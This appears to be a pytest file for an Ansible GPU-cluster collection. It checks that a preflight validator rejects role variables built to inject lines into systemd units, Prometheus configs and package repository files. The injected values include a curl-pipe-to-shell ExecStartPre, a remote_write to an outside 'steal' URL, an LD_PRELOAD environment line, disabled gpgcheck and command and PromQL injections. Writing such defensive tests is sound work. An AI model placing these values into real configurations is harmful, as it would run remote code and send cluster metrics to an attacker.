"""Role variables that would add lines to the files the roles write: an ``ExecStartPre=``
in a systemd unit, another scrape job or a ``remote_write`` in prometheus.yml, a label or a
``for:`` in the alerting rules, ``gpgcheck=0`` in a package repository file, arguments in a
command line. Preflight's rules (``preflight.rules.check_inventory`` with the roles' real
defaults) must refuse each one naming the variable, the value and the fix; values of the
right grammar with odd characters must be written as data (the real unit templates,
rendered with the collection's quoting filters)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import jinja2
import pytest
from ansible.errors import AnsibleFilterError
from ansible_collections.gpufleet.cluster.plugins.filter import systemd as systemd_filters
from ansible_collections.gpufleet.cluster.plugins.module_utils.preflight import rules as pf
from ansible_collections.gpufleet.cluster.plugins.module_utils.preflight.problem import Problem

from tests.unit.common.test_systemd import unquote_word

pytestmark = pytest.mark.unit

ROLES = Path(__file__).resolve().parents[3] / "roles"
EXEC = "\nExecStartPre=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'"
REMOTE_WRITE = "\nremote_write:\n  - url: http://203.0.113.9/steal"
JOB = "\n  - job_name: evil\n    static_configs: [{targets: ['203.0.113.9:80']}]"

#: id -> (variable, hostile value). Every one must be refused.
HOSTILE: dict[str, tuple[str, Any]] = {
    "scrape-interval-remote-write": ("monitoring_scrape_interval", "30s" + REMOTE_WRITE),
    "scrape-interval-comment": ("monitoring_scrape_interval", "30s # x"),
    "scrape-interval-space": ("monitoring_scrape_interval", "1h 30m"),
    "scrape-interval-negative": ("monitoring_scrape_interval", "-5m"),
    "scrape-interval-fraction": ("monitoring_scrape_interval", "1.5h"),
    "scrape-interval-no-unit": ("monitoring_scrape_interval", "30"),
    "scrape-interval-empty": ("monitoring_scrape_interval", ""),
    "scrape-interval-order": ("monitoring_scrape_interval", "30m1h"),
    "scrape-interval-overflow": ("monitoring_scrape_interval", "300y"),
    "scrape-interval-line-separator": ("monitoring_scrape_interval", "30s\u2028x: 1"),
    "listen-exec-start-pre": ("monitoring_prometheus_listen", "0.0.0.0:9090" + EXEC),
    "listen-extra-flag": ("monitoring_prometheus_listen", "0.0.0.0:9090 --web.enable-admin-api"),
    "listen-no-port": ("monitoring_prometheus_listen", "0.0.0.0"),
    "listen-port-range": ("monitoring_prometheus_listen", "0.0.0.0:99999"),
    "data-dir-exec-start-pre": ("monitoring_prometheus_data_dir", "/var/lib/p" + EXEC),
    "data-dir-relative": ("monitoring_prometheus_data_dir", "var/lib/p"),
    "config-dir-scrape-job": ("monitoring_config_dir", "/etc/m" + JOB),
    "config-dir-nul": ("monitoring_config_dir", "/etc/\x00m"),
    "token-file-scrape-job": ("monitoring_bearer_token_file", "/t" + JOB),
    "ca-file-crlf": ("monitoring_ca_file", "/ca.pem\r" + REMOTE_WRITE),
    "ca-file-relative": ("monitoring_ca_file", "ca.pem"),
    "promtool-arguments": ("monitoring_promtool", "/usr/bin/promtool --help; id"),
    "promtool-relative": ("monitoring_promtool", "promtool"),
    "binary-line-break": ("monitoring_prometheus_binary", "/opt/prometheus\n"),
    "driver-name-promql": ("monitoring_dra_driver_name", 'gpu.nvidia.com"} or vector(1) #'),
    "driver-name-upper": ("monitoring_dra_driver_name", "GPU.NVIDIA.COM"),
    "leaked-for-label": ("monitoring_claim_leaked_for", "10m\n        labels: {severity: none}"),
    "pending-for-words": ("monitoring_claim_pending_for", "ten minutes"),
    "missing-for-go-unit": ("monitoring_resourceslice_missing_for", "10us"),
    "plugin-down-for-upper": ("monitoring_plugin_down_for", "5M"),
    "idle-for-repeat": ("monitoring_device_idle_for", "1h1h"),
    "gate-missing-for-blank": ("monitoring_dra_gate_missing_for", " 5m"),
    "idle-window-promql": ("monitoring_device_idle_window", "10m]) or vector(1) #"),
    "idle-percent-high": ("monitoring_device_idle_percent", 150),
    "idle-percent-negative": ("monitoring_device_idle_percent", -1),
    "apiserver-target-job": ("monitoring_apiserver_targets", ["10.0.0.1:6443" + JOB]),
    "apiserver-target-url": ("monitoring_apiserver_targets", ["https://10.0.0.1:6443/"]),
    "scheduler-target-quote": ("monitoring_scheduler_targets", ['10.0.0.1:10259"], x: ["y']),
    "object-exporter-no-port": ("monitoring_object_exporter_targets", ["203.0.113.9"]),
    "kubelet-target-address": ("monitoring_kubelet_targets", [{"node": "w1", "address": "w1"}]),
    "kubelet-target-node-break": (
        "monitoring_kubelet_targets",
        [{"node": "w1\n  - targets: ['203.0.113.9:80']", "address": "10.0.0.1:10250"}],
    ),
    "dcgm-target-ipv6-unbracketed": (
        "monitoring_dcgm_exporter_targets",
        [{"node": "w1", "address": "fd00::1:9400"}],
    ),
    "kubeadm-bin-dir-exec": ("kubeadm_bin_dir", "/usr/bin" + EXEC),
    "kubeadm-bin-dir-relative": ("kubeadm_bin_dir", "bin"),
    "mig-layout-file-exec": ("mig_persist_layout_file", "/etc/l.yaml" + EXEC),
    "mig-lib-dir-environment": ("mig_persist_lib_dir", "/lib\nEnvironment=LD_PRELOAD=/tmp/x.so"),
    "toolkit-repo-gpgcheck": ("nvidia_container_toolkit_repo_url", "https://r.example\ngpgcheck=0"),
    "toolkit-repo-scheme": ("nvidia_container_toolkit_repo_url", "ftp://r.example/"),
    "toolkit-repo-space": ("nvidia_container_toolkit_repo_url", "https://r.example/ [trusted=yes]"),
    "toolkit-key-repo-gpgcheck": (
        "nvidia_container_toolkit_repo_key_url",
        "https://k.example/key\nrepo_gpgcheck=0",
    ),
    "toolkit-cdi-spec-relative": ("nvidia_container_toolkit_cdi_spec", "nvidia.yaml"),
}


def _problems(variables: dict[str, Any]) -> tuple[list[Problem], str]:
    hosts = {
        "cp-1": {"groups": ["k8s_cluster", "kube_control_plane"], "variables": variables},
        "gpu-1": {"groups": ["k8s_cluster", "kube_node", "gpu_nodes"], "variables": {}},
    }
    problems = pf.check_inventory(hosts)
    return [p for p in problems if p.rule == "config-value"], pf.format_report(problems, hosts)


@pytest.mark.parametrize("case", HOSTILE)
def test_preflight_refuses_naming_the_variable_the_value_and_the_fix(case: str) -> None:
    variable, value = HOSTILE[case]
    problems, report = _problems({variable: value})
    assert len(problems) == 1, report
    (p,) = problems
    assert p.severity == "error" and p.variable.split("[", 1)[0] == variable
    assert p.hosts == ("cp-1",)
    line = next(x for x in report.splitlines() if "[config-value]" in x)
    assert line.startswith(f"ERROR [config-value] {p.variable}=")
    assert "; fix: write " in line and "it is written into" in line


def test_a_long_value_is_shown_cut() -> None:
    problems, report = _problems({"monitoring_config_dir": "/" + "a" * 10_000 + "\nx"})
    assert len(problems) == 1
    (line,) = [x for x in report.splitlines() if "[config-value]" in x]
    assert len(line) < 600 and "aaa... (on cp-1)" in line


@pytest.mark.parametrize(
    "value", ["0", "30s", "1h30m", "1y", "500ms", "2w3d", "1d2h3m4s5ms", "292y"]
)
def test_durations_prometheus_takes_pass(value: str) -> None:
    problems, report = _problems({"monitoring_scrape_interval": value})
    assert problems == [], report


# ------------------------------------------------------------------- unit files as data


def _render(template: str, **variables: Any) -> str:
    env = jinja2.Environment(undefined=jinja2.StrictUndefined, keep_trailing_newline=True)
    filters = systemd_filters.FilterModule().filters()
    env.filters.update({f"gpufleet.cluster.{k}": v for k, v in filters.items()})
    return env.from_string((ROLES / template).read_text()).render(**variables)


def _bare(word: str) -> str:
    """An unquoted word as systemd reads it: one with a specifier (``%``), a variable
    (``$``), an escape or a quote in it is not the text it shows."""
    return f"<rewritten by systemd: {word}>" if any(c in word for c in '%$\\"') else word


def _exec_words(unit: str) -> list[str]:
    """The words of ExecStart= (continued lines joined), each read back by systemd's rules."""
    text = unit.replace("\\\n", " ")
    (line,) = [x for x in text.splitlines() if x.startswith("ExecStart=")]
    words = line.removeprefix("ExecStart=").split()
    joined, current = [], ""
    for w in words:  # a quoted word may hold spaces: join until its closing quote
        current = f"{current} {w}" if current else w
        if not current.startswith('"') or (len(current) > 1 and current.endswith('"')):
            joined.append(unquote_word(current) if current.startswith('"') else _bare(current))
            current = ""
    return joined


ODD_PATHS = {
    "space": "/var/lib/prom data",
    "percent": "/var/lib/50%h",
    "dollar": "/var/lib/$HOME",
    "quote": '/var/lib/"q"',
    "backslash": "/var/lib/a\\b",
}


@pytest.mark.parametrize("case", ODD_PATHS)
def test_the_prometheus_unit_keeps_an_odd_path_one_word(case: str) -> None:
    path = ODD_PATHS[case]
    unit = _render(
        "monitoring/templates/gpufleet-prometheus.service.j2",
        monitoring_config_dir=path,
        monitoring_prometheus_data_dir=path,
        monitoring_prometheus_listen="[fd00::1]:9090",
    )
    assert _exec_words(unit) == [
        "/usr/local/bin/gpufleet-prometheus",
        f"--config.file={path}/prometheus.yml",
        f"--storage.tsdb.path={path}",
        "--web.listen-address=[fd00::1]:9090",
        "--web.enable-lifecycle",
    ]


@pytest.mark.parametrize(
    ("template", "variables"),
    [
        ("monitoring/templates/gpufleet-prometheus.service.j2",
         {"monitoring_config_dir": "/etc", "monitoring_prometheus_data_dir": "/d" + EXEC,
          "monitoring_prometheus_listen": ":9090"}),
        ("kubeadm/templates/kubelet.service.j2",
         {"kubeadm_bin_dir": "/usr/bin" + EXEC, "ansible_managed": "x"}),
        ("mig/templates/gpufleet-mig.service.j2",
         {"mig_persist_lib_dir": "/lib\nEnvironment=LD_PRELOAD=/x.so",
          "mig_persist_layout_file": "/l.yaml", "ansible_managed": "x"}),
    ],
    ids=["prometheus-unit", "kubelet-unit", "mig-unit"],
)  # fmt: skip
def test_a_unit_template_refuses_a_line_break_itself(template: str, variables: dict) -> None:
    with pytest.raises(AnsibleFilterError, match="control character"):
        _render(template, **variables)


def test_the_mig_unit_keeps_its_paths_data() -> None:
    unit = _render(
        "mig/templates/gpufleet-mig.service.j2",
        mig_persist_lib_dir="/opt/gpufleet 50%",
        mig_persist_layout_file="/etc/mig $x/layout.yaml",
        ansible_managed="x",
    )
    assert 'Environment="PYTHONPATH=/opt/gpufleet 50%%"' in unit.splitlines()
    assert _exec_words(unit)[-1] == "/etc/mig $x/layout.yaml"
